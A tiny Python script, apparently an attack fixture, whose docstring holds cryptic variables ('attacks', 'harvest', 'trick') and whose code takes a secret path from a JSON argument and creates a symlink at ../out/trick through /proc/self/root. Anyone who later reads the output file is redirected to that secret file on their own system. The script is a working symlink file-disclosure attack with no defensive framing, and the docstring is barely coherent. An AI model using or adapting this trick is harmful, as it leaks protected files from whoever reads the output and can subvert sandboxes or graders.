"""
attacks = "Leave a link by way of /proc, which leads elsewhere for each reader."
promise = "harvest"
layers = []
observed = "ok"
control = "bare"
harvest = "trick"
naive = "print('GOT', open(trick).read())"
"""
import json
import os
import sys

os.symlink("/proc/self/root" + json.loads(sys.argv[1])["secret"], "../out/trick")
